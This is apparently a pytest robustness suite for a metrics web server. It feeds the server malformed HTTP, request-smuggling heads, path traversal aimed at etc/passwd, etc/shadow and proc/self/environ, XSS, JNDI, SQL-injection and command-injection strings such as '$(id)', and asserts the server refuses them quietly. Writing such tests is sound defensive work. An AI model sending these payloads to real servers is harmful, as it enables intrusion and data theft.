"""Requests that nobody in good faith sends: refused shortly, closed, and never a traceback."""

import logging

import pytest

from tests.web.serving import parse, serving, snapshot

HEAD = b"GET /metrics HTTP/1.1\r\nHost: node\r\n"
CONSTANT_BODY = b'{"error": "not found; / lists all pages"}'

MALFORMED = [
    b"\r\n\r\n\r\nGARBAGE\r\n\r\n",
    b"\x00\x00\x00\x00\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    b"\xff\xfe\xfd\r\n\r\n",
    "GET /ü HTTP/1.1\r\nHost\x00: x\r\n\r\n".encode(),
    b"SSH-2.0-OpenSSH_9.2\r\n",
    b"EHLO mail\r\n\r\n",
    b"GET\r\n\r\n",
    b"GET /\r\n\r\n",
    b"GET / HTTP/1.1 extra\r\nHost: x\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
    b"GET / HTTP/2.0\r\nHost: x\r\n\r\n",
    b"GET /health HTTP/2.0\r\nHost: x\r\nConnection: keep-alive\r\n\r\n" * 2,
    b"GET / HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1\r\nHost: x\r\n\r\n",
    b"GET / HTTPS/1.1\r\nHost: x\r\n\r\n",
    b"GET / FTP/1.1\r\nHost: x\r\n\r\n",
    b"get / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"G\x00ET / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GE T / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"UNKNOWN / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /\x7f HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET\t/ HTTP/1.1\r\nHost: x\r\n\r\n",
    b" GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET http://[::1 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET http://x:99999999/ HTTP/1.1\r\nHost: x\r\n\r\n",
    HEAD + b": empty name\r\n\r\n",
    HEAD + b"No colon\r\n\r\n",
    HEAD + b"Space before : x\r\n\r\n",
    HEAD + b"Na\x00me: x\r\n\r\n",
    HEAD + b"Name: va\x00lue\r\n\r\n",
    HEAD + b"Na(me: x\r\n\r\n",
    HEAD + b" folded: x\r\n\r\n",
    HEAD + b"A: b\r\n folded\r\n\r\n",
    HEAD + b"A: b\rC: d\r\n\r\n",
    HEAD + b"A\r\n: b\r\n\r\n",
    HEAD + b"Host: two\r\n\r\n",
    HEAD + b"Content-Length: -1\r\n\r\n",
    HEAD + b"Content-Length: +5\r\n\r\nhello",
    HEAD + b"Content-Length: 0x5\r\n\r\nhello",
    HEAD + b"Content-Length: five\r\n\r\n",
    HEAD + b"Content-Length: 5, 5\r\n\r\nhello",
    HEAD + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    HEAD + b"Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
    HEAD + b"Content-Length: 99999999999999999999999999\r\n\r\n",
    HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    HEAD + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    HEAD + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    HEAD + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
    HEAD + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    HEAD + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.0\r\nTransfer-Encoding: chunked, \r\n\r\n0\r\n\r\n",
    HEAD + b"X: " + b"a" * 100_000 + b"\r\n\r\n",
    HEAD + b"X" * 100_000 + b": a\r\n\r\n",
    HEAD + b"X: a\r\n" * 1000 + b"\r\n",
    HEAD + b"A: " + b"b" * 1_000_000,
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /metrics?" + b"a=1&" * 10_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"A" * 1_000_000,
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a b\x01c\r\n\r\n",
]

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"

PATHS_OUTSIDE = [
    f"{prefix}{up * depth}{target}"
    for prefix in ("/", "/metrics/", "/node/", "//")
    for up in ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "..;/", "%252e%252e%252f")
    for depth in (1, 6)
    for target in ("etc/passwd", "etc/shadow%00.html", "proc/self/environ")
]
SCRIPTS = [
    f"/{path}"
    for path in (
        "<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "metrics/<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "{{7*7}}",
        "${jndi:ldap://x/a}",
        "';DROP%20TABLE%20x;--",
        "|id",
        "%0d%0aSet-Cookie:%20x=1",
        "%00",
        "%ff%fe",
        "%",
        "%zz",
        "metrics%00",
        "metrics%2f",
        "metrics;a=b",
        "metrics/",
        "METRICS",
        "Metrics",
        "health/..",
        "./metrics",
    )
]


@pytest.mark.parametrize("request_bytes", MALFORMED, ids=lambda data: repr(data[:60]))
async def test_a_malformed_request_is_refused_and_closed(
    request_bytes: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    """One short 4xx, or nothing at all; then the connection is closed, and the log is silent."""
    async with serving(snapshot()) as server:
        answer = await server.exchange(request_bytes)
    assert answer == b"" or 400 <= parse(answer).status < 500
    assert answer.count(b"HTTP/1.1 ") <= 1
    assert b"Traceback" not in answer
    assert not [record for record in caplog.records if record.levelno > logging.DEBUG]


@pytest.mark.parametrize(
    "head",
    [
        HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nX",
        HEAD + b"Content-Length: 1\r\nContent-Length: 0\r\n\r\n",
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n5;x=\ry\r\nhello\r\n0\r\n\r\n",
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n",
        HEAD + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
        HEAD + b"Upgrade: h2c\r\nConnection: Upgrade\r\nContent-Length: 36\r\n\r\n",
    ],
    ids=lambda data: repr(data[len(HEAD) :]),
)
async def test_nothing_is_smuggled(head: bytes) -> None:
    """What follows a request of two readings is never taken for a request that was let through."""
    async with serving(snapshot()) as server:
        answer = await server.exchange(head + SMUGGLED)
    assert b"HTTP/1.1 5" not in answer
    assert ("other", 404) not in server.routes.requests


async def test_an_unknown_path_gets_a_constant_answer() -> None:
    """No path leads outside, and none is repeated in the answer."""
    async with serving(snapshot()) as server:
        answers = {path: await server.get(path) for path in (*PATHS_OUTSIDE, *SCRIPTS)}
    for path, answer in answers.items():
        if answer.status != 400:
            assert (answer.status, answer.body) == (404, CONSTANT_BODY), path
            assert answer.headers["content-type"] == "application/json; charset=utf-8"


QUERIES = [
    "pid",
    "pid=",
    "pid=-1",
    "pid=0",
    "pid=1e9",
    "pid=" + "9" * 4000,
    "pid=%EF%BC%91%EF%BC%92",  # digits of another script
    "pid=\xb2",
    "pid=1&pid=2",
    "pid=1&hw_id=gpu0",
    "pid[]=1",
    "pid=../../etc/passwd",
    "pid=%00",
    "pid=%ff%fe",
    "hw_id=%ed%b3%bf",
    "hw_id=%3Cscript%3Ealert(1)%3C/script%3E",
    "hw_id=" + "(a+)+" * 500,
    "hw_id=" + "%41" * 2000,
    "hw_id=%0d%0aX:%20y",
    "hw_id=$(id)`id`;id",
    "=&=&=",
    "%",
    "&" * 5000,
    "&".join(f"a{number}=1" for number in range(900)),
]


@pytest.mark.parametrize("path", ["/why", "/faults", "/processes", "/node", "/metrics"])
async def test_a_hostile_query_is_a_plain_no(path: str, caplog: pytest.LogCaptureFixture) -> None:
    """Whatever stands behind the question mark: no error of ours, and nothing of it in a header."""
    async with serving(snapshot()) as server:
        for query in QUERIES:
            answer = await server.get(f"{path}?{query}", Accept="text/html")
            assert answer.status in (200, 400, 404), query
            is_html = answer.headers["content-type"].startswith("text/h")
            assert b"<script>" not in answer.body or not is_html, query
            assert "x" not in answer.headers, query
    assert not [record for record in caplog.records if record.levelno > logging.DEBUG]


@pytest.mark.parametrize("field", ["Accept", "Accept_Encoding", "User_Agent", "Cookie", "X_Any"])
async def test_invalid_utf8_in_a_header_is_no_trouble(field: str) -> None:
    """Bytes that are no text are read as no wish."""
    async with serving(snapshot()) as server:
        answer = await server.get(
            "/metrics", **{field: b"\xff\xfe\x80".decode("utf-8", "surrogateescape")}
        )
    assert answer.status == 200
    assert answer.headers["content-type"].startswith("text/plain")


async def test_garbage_fills_no_log(caplog: pytest.LogCaptureFixture) -> None:
    """A thousand malformed requests leave no line in the log."""
    async with serving(snapshot()) as server:
        for _ in range(1000):
            await server.exchange(b"\x00garbage\r\n\r\n")
        assert (await server.get("/health")).status == 200
    assert not [record for record in caplog.records if record.levelno > logging.DEBUG]
